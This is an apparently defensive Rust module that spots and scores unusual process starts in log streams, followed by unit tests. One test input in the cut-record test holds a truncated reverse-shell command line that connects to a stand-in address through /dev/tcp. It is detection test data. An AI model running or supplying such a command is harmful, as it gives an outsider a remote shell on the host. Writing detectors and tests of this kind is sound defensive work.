//! Starts of processes among the events of a stream → what is said of those that do not look as systems
//! are built, or as their host does. Each is judged by the rules of its own system and by what its client's
//! hosts have shown before it, in bounded memory.
//!
//! What a record says of itself (names, paths, command lines) is repeated, cut and in quotes, and decides
//! nothing beyond the rules: severities come from them and from the odds alone.

use super::anomaly::fusion::{AlertSeverity, Fused, Fusion, Layers, fuse};
use super::anomaly::memory::{Bounds, Memory};
use super::anomaly::process::ProcessStart;
use super::anomaly::rules::RuleSet;
use super::is_record_alone;
use super::signal::Said;
use model::{Defect, Event, Timestamp};
use serde::{Deserialize, Serialize};

/// Keys that name a process.
const NAMES: [&str; 3] = ["process_name", "image", "exe"];
/// Keys that only a start of it has.
const STARTED: [&str; 5] = ["command_line", "cmdline", "parent_name", "parent_image", "ppid"];
/// Those that can be long enough for a record to be cut.
const COMMANDS: [&str; 2] = ["command_line", "cmdline"];
/// Starts that a host is reckoned to have a day, unless it was seen to have more: what the chance of a false
/// alarm is multiplied with.
const PER_DAY_MIN: f64 = 2_000.0;
/// The series that what is said of starts rests on.
const SERIES: &str = "process.start";
/// Reasons that are kept of one start.
const REASONS_MAX: usize = 5;
/// Letters of a name, of a reason, and of a command line that are repeated.
const NAME_LETTERS_MAX: usize = 64;
const REASON_LETTERS_MAX: usize = 240;
const COMMAND_LETTERS_MAX: usize = 160;

/// Whether an event is the record of a start of a process: a JSON object that names a process and how it came to be,
/// and says nothing else; or the beginning of one that was cut.
pub fn is_start(event: &Event<'_>) -> bool {
    if !is_record_alone(event) {
        return false;
    }
    if event.defects.has(Defect::JsonBroken) {
        // Of a record that was cut, which whoever chose its command line can bring about, the beginning counts.
        let names = COMMANDS.iter().chain(&NAMES).any(|name| event.body.contains(*name));
        return names && ProcessStart::from_cut_json(&event.body).is_some();
    }
    let has = |keys: &[&str]| {
        event.attributes.iter().any(|(name, value)| keys.contains(&&**name) && !value.is_empty())
    };
    has(&NAMES) && has(&STARTED)
}

/// A start that is unusual, as it is told.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct OddStart {
    /// How bad it is.
    pub severity: AlertSeverity,
    /// 0–1: rules broken and odds together.
    pub score: f64,
    /// The program, cut; never empty.
    pub name: String,
    /// Who started it, cut; empty if unknown.
    pub parent: String,
    /// As whom it runs, cut; empty if unknown.
    pub user: String,
    /// Its command line, cut; empty if unknown.
    pub command_line: String,
    /// Why it is unusual, the weightiest reason first; never empty.
    pub reasons: Vec<String>,
    /// Its number.
    pub process_id: Option<u64>,
    /// Whether it was started on Windows.
    pub is_windows: bool,
    /// When.
    pub at: Timestamp,
}

/// What the starts of a client's hosts have taught.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Starts {
    memory: Memory,
}

impl Starts {
    /// Judges the record of a start on a host at an instant, then remembers it; what is unusual is returned.
    pub fn take(
        &mut self,
        record: &str,
        host: &str,
        at: Timestamp,
        bounds: Bounds,
    ) -> Option<OddStart> {
        let start = ProcessStart::from_json(record).ok()?;
        let start = ProcessStart { host: host.to_owned(), at: Some(at), ..start };
        let start = self.memory.with_parent(&start);
        let per_day = self.memory.per_day(&start).max(PER_DAY_MIN);
        let rules = RuleSet::built_in_for(&start);
        let layers = self.memory.layers(&start, rules, Fusion::Calibrated, bounds);
        let fused = fuse(&layers, Fusion::Calibrated, per_day);
        Some(OddStart {
            severity: fused.severity?,
            score: fused.score,
            name: cut(&start.name, NAME_LETTERS_MAX),
            parent: cut(&start.parent_name, NAME_LETTERS_MAX),
            user: cut(&start.user, NAME_LETTERS_MAX),
            command_line: cut(&start.command_line, COMMAND_LETTERS_MAX),
            reasons: reasons(&layers, &fused),
            process_id: start.process_id,
            is_windows: start.is_windows(),
            at,
        })
    }

    /// What found no room: starts whose values were not judged, and pairs that were not learnt.
    pub fn overflowed(&self) -> (u64, u64) {
        self.memory.overflowed()
    }
}

/// Rules broken, the heaviest first; before them what the values say, where rules alone would say less.
fn reasons(layers: &Layers, fused: &Fused) -> Vec<String> {
    let by_rules = AlertSeverity::of_rules(fused.layers[0]);
    let by_values = layers.temporal.iter().filter(|_| fused.severity > by_rules);
    let values = by_values.map(|layer| &layer.reason);
    let reasons = values.chain(layers.broken.iter().map(|rule| &rule.reason));
    reasons.take(REASONS_MAX).map(|reason| cut(reason, REASON_LETTERS_MAX)).collect()
}

fn cut(text: &str, letters_max: usize) -> String {
    match text.char_indices().nth(letters_max) {
        Some((at, _)) => format!("{}…", &text[..at]),
        None => text.to_owned(),
    }
}

impl OddStart {
    /// The weightiest reason.
    pub fn reason(&self) -> &str {
        self.reasons.first().map_or("", String::as_str)
    }

    /// Whether a person is told of it, or only the other detectors.
    pub fn is_told(&self) -> bool {
        self.severity >= AlertSeverity::High
    }

    /// As an event of the stream. What the record names stands in double quotes, as values do: the same rule broken by
    /// other programs is the same kind of message.
    pub fn said(&self) -> Said {
        let severity = match self.severity {
            AlertSeverity::Low => model::Severity::Notice,
            AlertSeverity::Med => model::Severity::Warning,
            AlertSeverity::High => model::Severity::Error,
            AlertSeverity::Crit => model::Severity::Critical,
        };
        let secs = self.at.as_micros() as f64 / 1e6;
        let body = format!("unusual start of `{}`: {}", self.name, self.reason());
        Said::of_start(severity, SERIES, secs, body.replace('"', "'").replace('`', "\""))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::normalize::{Reference, normalize};

    fn is_read_as_start(line: &str) -> bool {
        let reference = Reference { now: Timestamp::from_secs(1_795_255_200), zone_offset_secs: 0 };
        is_start(&normalize(line.as_bytes(), &reference))
    }

    #[test]
    fn an_object_that_names_a_process_and_how_it_came_to_be_is_a_start() {
        for line in [
            r#"{"timestamp":"2026-11-20T08:00:00Z","host":"oak","process_name":"sh","ppid":0}"#,
            r#"{"image":"C:\\Windows\\System32\\cmd.exe","parent_image":"C:\\Windows\\explorer.exe"}"#,
            r#"{"exe":"/usr/bin/ls","cmdline":"ls -l"}"#,
            r#"{"process_name":"sh","command_line":"sh -c"#,
            r#"{"command_line":"/bin/sh -c 'bash -i >& /dev/tcp/192.0.2.1/9"#,
        ] {
            assert!(is_read_as_start(line), "{line}");
        }
    }

    #[test]
    fn what_speaks_or_tells_of_no_start_is_none() {
        for line in [
            r#"{"msg":"a process was started","process_name":"sh","command_line":"sh -c x"}"#,
            r#"{"process_name":"sh","cpu_percent":3}"#,
            r#"{"process_name":"sh","command_line":""}"#,
            r#"{"command_line":"sh -c x","ppid":1}"#,
            r#"{"process_name":"sh","cpu_percent":3,"threads":"#,
            r#"{"msg":"a process was started","process_name":"sh","command_line":"sh -c"#,
            "process_name=sh command_line=x",
        ] {
            assert!(!is_read_as_start(line), "{line}");
        }
    }

    #[test]
    fn each_system_has_its_own_rules_and_they_can_be_read() {
        let of = |line: &str| ProcessStart::from_json(line).unwrap();
        let linux = of(r#"{"process_name":"bash","exe":"/opt/wine/notepad.exe"}"#);
        let windows = of(r#"{"image":"C:\\Windows\\notepad.exe"}"#);
        assert_eq!(RuleSet::built_in_for(&linux).name, "linux");
        assert_eq!(RuleSet::built_in_for(&windows).name, "windows");
        assert!(of(r#"{"process_name":"cmd.exe"}"#).is_windows());
        assert!(!of(r#"{"process_name":"cmd.exe","uid":0}"#).is_windows());
    }
}
